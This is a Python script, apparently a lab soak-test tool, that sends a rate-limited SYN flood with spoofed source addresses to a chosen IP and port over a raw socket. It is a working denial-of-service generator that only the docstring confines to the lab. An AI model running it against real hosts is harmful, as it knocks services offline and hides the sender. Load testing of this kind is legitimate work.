#!/usr/bin/env python3
"""A bounded SYN flood for the soak test, sent from a client namespace of the network lab: --count TCP SYNs of
new 5-tuples (spoofed sources in --src-prefix.{--src-from..--src-to}, random ports) to VIP:PORT at about --rate
per second, through a raw socket (the kernel routes them, as it would a real client's). The sources are
addresses of the lab's client link that no host owns: the backends' SYN-ACKs go to the router, which finds no
one there and drops them. Nothing leaves the lab's namespaces.

Prints one JSON line: {"sent": N, "seconds": S}.
usage: net_syn_flood.py --dst 192.0.2.10 --port 80 --count 20000 --rate 5000 --src-prefix 198.18.1 --src-from 100 --src-to 250
"""
import argparse
import json
import random
import socket
import struct
import sys
import time


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def syn(src, dst, sport, dport, seq):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    # IP header: the kernel fills in the total length's check, the id and the header checksum (IP_HDRINCL).
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0, socket.inet_aton(src), socket.inet_aton(dst))
    return ip + tcp


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--dst", required=True)
    ap.add_argument("--port", type=int, default=80)
    ap.add_argument("--count", type=int, required=True)
    ap.add_argument("--rate", type=float, default=5000)
    ap.add_argument("--src-prefix", required=True)
    ap.add_argument("--src-from", type=int, default=100)
    ap.add_argument("--src-to", type=int, default=250)
    ap.add_argument("--seed", type=int, default=9)
    args = ap.parse_args()
    if args.count > 1_000_000:
        print("net_syn_flood: at most 1000000 packets", file=sys.stderr)
        return 2
    rnd = random.Random(args.seed)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    start = time.monotonic()
    sent = 0
    for i in range(args.count):
        src = "%s.%d" % (args.src_prefix, rnd.randint(args.src_from, args.src_to))
        packet = syn(src, args.dst, rnd.randint(1024, 65535), args.port, rnd.getrandbits(32))
        try:
            s.sendto(packet, (args.dst, 0))
            sent += 1
        except OSError:
            # The socket's buffer is full: wait a little, as a paced generator would.
            time.sleep(0.001)
        ahead = (i + 1) / args.rate - (time.monotonic() - start)
        if ahead > 0:
            time.sleep(ahead)
    print(json.dumps({"sent": sent, "seconds": round(time.monotonic() - start, 2)}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
